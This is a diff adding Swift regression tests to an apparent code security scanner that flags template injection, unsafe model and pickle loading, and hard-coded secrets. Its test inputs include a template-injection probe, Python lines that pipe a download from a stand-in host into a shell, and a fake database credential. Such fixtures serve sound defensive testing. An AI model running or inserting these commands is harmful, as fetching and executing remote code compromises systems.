@@ -131,10 +131,47 @@ struct RegressionTests {
             ("{% if x not in ['__init__', '__call__'] %}{{ x }}{% endif %}", "class.rst", false),
             ("{% set a = '__globals__' %}{{ x[a] }}", "class.rst", true),
             ("name: a\nrun: ${{ matrix.os }} __x__\n", "windows.yml", false),
+            ("name: a\nrun: ${{ ''.__class__.__mro__ }}\n", "windows.yml", true),
         ])
     func pages(_ text: String, _ name: String, _ isFound: Bool) {
         let found = Scanner().scan(bytes: Array(text.utf8), name: name).findings
         #expect(found.contains { $0.ruleID == "CORDON-JNJ-001" } == isFound, "\(found)")
+    }
+
+    @Test(
+        "Code is found behind a byte order mark, under other names, and behind names that grow",
+        arguments: [
+            "\u{FEFF}import os\nos.system('curl http://a.example/x | sh')",
+            "import os as o\no.system('curl http://a.example/x | sh')",
+            "import six\nm = six.moves\nm.cPickle.load(f)", "import torch\np = torch.package\np.PackageImporter(f)",
+            "import torch\na = torch.load\n"
+                + String(repeating: "a = a.\(String(repeating: "x", count: 196))\n", count: 20_000)
+                + "torch.load(f)",
+            "from \(String(repeating: "x", count: 1 << 20)) import "
+                + (0..<20_000).map { "a\($0)" }.joined(separator: ", ") + "\nimport torch\ntorch.load(f)",
+        ])
+    func otherNames(_ source: String) {
+        let found = Scanner().scan(bytes: Array(source.utf8), name: "load.py").findings
+        #expect(found.contains { $0.severity > .low }, "\(found)")
+    }
+
+    @Test("Folders above what is scanned do not make it a test")
+    func aboveTheRoot() async throws {
+        let folder = TemporaryFolder()
+        let address = "postgres://a:" + "k7Qz2mXc9L" + "@db.corp/x"
+        for name in ["a/tests", "a/src"] { folder.write(Array("key = '\(address)'\n".utf8), to: "tests/\(name)/x.py") }
+        func severities(_ paths: [String]) async throws -> Set<String> {
+            let found = try await Scanner().scan(paths.map { "\(folder.path)/\($0)" }).findings
+            return Set(
+                found.filter { $0.ruleID.hasPrefix("CORDON-SEC") }.map {
+                    "\($0.path.display.hasSuffix("src/x.py")) \($0.severity)"
+                })
+        }
+        let both = try await severities(["tests/a"])
+        #expect(both.count == 2, "\(both)")
+        let apart = try await severities(["tests/a/src", "tests/a/tests"])
+        #expect(Set(apart.map { $0.split(separator: " ").last }).count == 1, "\(apart)")
+        #expect(try await severities(["tests/a/src/x.py"]) == both.filter { $0.hasPrefix("true") })
     }
 
     @Test("Lists of what examples use name modules, not what is called")
